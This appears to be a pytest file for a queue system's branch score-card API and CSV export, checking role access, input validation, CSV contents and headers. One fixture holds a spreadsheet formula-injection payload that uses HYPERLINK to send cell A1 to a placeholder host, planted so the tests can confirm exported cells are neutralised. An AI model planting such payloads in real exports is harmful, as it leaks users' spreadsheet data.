"""The score card over HTTP: who may see it, what makes no sense, and a file in which nothing becomes a formula."""

import csv
import json
from collections.abc import Callable, Iterator
from io import StringIO
from pathlib import Path
from typing import Any

import pytest

from caller_server.contract.score_card import ScoreCardView
from caller_server.usecases.accounts import Role
from tests.storage.window_rows import add_windows
from tests.web.site import PASSWORD, Site
from tests.web.site import site as make_site

DAYS = "from=2026-11-23&to=2026-11-24"
SCORE = f"branches/bontang/score?{DAYS}"
HOSTILE = "=HYPERLINK(\"http://x/?\"&A1;'klik')"
BRANCH = {
    "services": [{"code": "A", "name": {"id": HOSTILE, "en": "-2+3, and more"}}, {"code": "K", "name": {"id": "Klaim JKK"}}]
}


@pytest.fixture(params=["sqlite", "postgresql"])
def site(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Site]:
    counters = [{"code": "bontang-1", "label": "1", "services": ["A", "K"]}]
    with make_site(tmp_path, kind=request.param, branch=BRANCH | {"counters": counters}) as made:
        made.accounts.add_user("vera", Role.VIEWER, "bontang", PASSWORD)
        add_windows(
            made.hall.database, {"called": 10}, {"called": 40}, {"service": "K", "called": 15}, {"to": None, "called": 60}
        )
        yield made


def told(site: Site, query: str = "", who: str = "sari") -> ScoreCardView:
    answer = site.staff(who).get(f"{SCORE}{query}")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    return ScoreCardView.model_validate_json(answer.get_data())


def table(site: Site, query: str) -> list[list[str]]:
    answer = site.staff("sari").get(f"branches/bontang/score.csv?{DAYS}{query}")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert answer.headers["Cache-Control"] == "no-store"
    return list(csv.reader(StringIO(answer.get_data().decode("utf-8-sig"), newline="")))


def test_those_who_look_after_the_branch_see_the_score_and_nobody_else(site: Site) -> None:
    for path in (SCORE, f"branches/bontang/score.csv?{DAYS}", "/score"):
        status = {who: site.staff(who).get(path).status_code for who in ("rina", "gita", "sari", "budi", "vera")}
        assert status == {"rina": 403, "gita": 403, "sari": 200, "budi": 200, "vera": 200}
        assert site.kiosk().get(path).status_code == 403
    assert site.nobody().get(SCORE).status_code == 401
    assert "password" in site.nobody().get("/score").get_data(as_text=True)  # the form to sign in, and nothing else


def test_the_branch_of_others_is_not_shown(site: Site) -> None:
    assert site.staff("sari").get(f"branches/samarinda/score?{DAYS}").status_code == 403
    assert site.staff("sari").get("/score?branch=samarinda").status_code == 403
    assert site.staff("budi").get(f"branches/samarinda/score?{DAYS}").get_json()["totals"]["windows"] == 0


def test_a_score_is_told_as_the_contract_has_it(site: Site) -> None:
    found = json.loads(site.staff("sari").get(f"{SCORE}&by=horizon&lang=id").get_data())

    assert (found["from"], found["to"], found["by"], found["branch"], found["aim"]) == (
        "2026-11-23", "2026-11-24", "horizon", "bontang", 0.8,
    )  # fmt: skip
    assert [(row["key"], row["label"]) for row in found["rows"]] == [("2", "10–20 menit")]
    assert found["totals"] == {
        "windows": 3, "hit_rate": pytest.approx(2 / 3), "early": 0.0, "width_s": 1200, "error_s": 1125, "error_p90_s": 2340,
        "not_before": 1, "not_before_held": 1.0,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("query", "labels"),
    [
        ("&lang=id", ["09.00–10.00"]),
        ("&by=day&lang=en", ["Mon 23 Nov 2026"]),
        ("&by=service&lang=en", ["A -2+3, and more", "K Klaim JKK"]),
        ("&by=horizon&lang=en", ["10–20 minutes"]),
    ],
)
def test_labels_are_in_the_language_asked_for(site: Site, query: str, labels: list[str]) -> None:
    assert [row.label for row in told(site, query).rows] == labels


def test_without_days_the_score_is_about_today_by_the_hour(site: Site) -> None:
    found = ScoreCardView.model_validate_json(site.staff("sari").get("branches/bontang/score").get_data())

    assert (str(found.from_), str(found.to), found.by, found.totals.windows) == ("2026-11-23", "2026-11-23", "hour", 3)


@pytest.mark.parametrize(
    ("query", "sentence"),
    [
        ("from=2026-11-24&to=2026-11-23", "Hari pertama laporan harus sebelum hari terakhirnya."),
        ("from=2020-01-01&to=2026-11-23", "Laporan memuat paling banyak lima tahun."),
        ("from=yesterday", "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
        ("by=officer", "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
        ("by=ticket_id", "Isian permintaan ini tidak lengkap atau tidak tepat. Periksa, lalu coba lagi."),
    ],
)
def test_what_makes_no_sense_is_refused_with_a_sentence(site: Site, query: str, sentence: str) -> None:
    for ending in ("", ".csv"):
        answer = site.staff("sari").get(f"branches/bontang/score{ending}?lang=id&{query}")

        assert (answer.status_code, answer.get_json()["detail"]) == (422, sentence)


def test_the_csv_has_the_numbers_of_the_score(site: Site) -> None:
    rows = table(site, "&by=service&lang=id")

    assert rows[0] == [
        "Kode layanan", "Layanan", "Kisaran waktu", "Tepat", "Dipanggil sebelumnya", "Lebar rata-rata (dtk)",
        "Meleset rata-rata (dtk)", "Meleset P90 (dtk)", "“Tidak sebelum”", "“Tidak sebelum” benar",
    ]  # fmt: skip
    assert rows[2] == ["K", "K Klaim JKK", "1", "1.0000", "0.0000", "1200", "0", "0", "0", ""]
    assert rows[-1][:5] == ["", "Seluruhnya", "3", "0.6667", "0.0000"]
    assert table(site, "&by=day&lang=en")[1][:2] == ["2026-11-23", "Mon 23 Nov 2026"]


def test_no_cell_of_the_csv_can_become_a_formula(site: Site) -> None:
    for language, label in (("id", f"A {HOSTILE}"), ("en", "A -2+3, and more")):
        rows = table(site, f"&by=service&lang={language}")

        cells = [part.strip() for row in rows for cell in row for part in (cell, *cell.split(";"), *cell.split(","))]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert rows[1][1] == label


def test_the_file_has_a_name_that_needs_no_quoting(site: Site) -> None:
    answer = site.staff("sari").get(f"branches/bontang/score.csv?{DAYS}&by=horizon&lang=id")

    assert answer.headers["Content-Disposition"] == 'attachment; filename="ketepatan-bontang-2026-11-23-2026-11-24-horizon.csv"'
    assert (answer.mimetype, answer.headers["X-Content-Type-Options"]) == ("text/csv", "nosniff")


def test_an_empty_score_is_a_file_as_well(site: Site) -> None:
    answer = site.staff("sari").get("branches/bontang/score.csv?from=2020-01-01&to=2020-01-02&lang=id")

    assert answer.get_data().decode("utf-8-sig").splitlines()[1:] == [",Seluruhnya,0,,,,,,0,"]


@pytest.mark.parametrize("ending", ["", ".csv"])
def test_counting_is_work_that_is_done_apart(site: Site, monkeypatch: pytest.MonkeyPatch, ending: str) -> None:
    done: list[str] = []
    web = site.app.extensions["lapak"]

    def apart(work: Callable[[], Any]) -> Any:
        done.append("apart")
        return work()

    monkeypatch.setattr(type(web), "__setattr__", object.__setattr__)
    monkeypatch.setattr(web, "apart", apart)
    site.staff("sari").get(f"branches/bontang/score{ending}?{DAYS}")

    assert done == ["apart"]


def test_a_report_has_the_share_of_windows_that_held(site: Site) -> None:
    answer = site.staff("sari").get(f"branches/bontang/report?{DAYS}").get_json()

    assert answer["totals"]["hit_rate"] == pytest.approx(2 / 3)
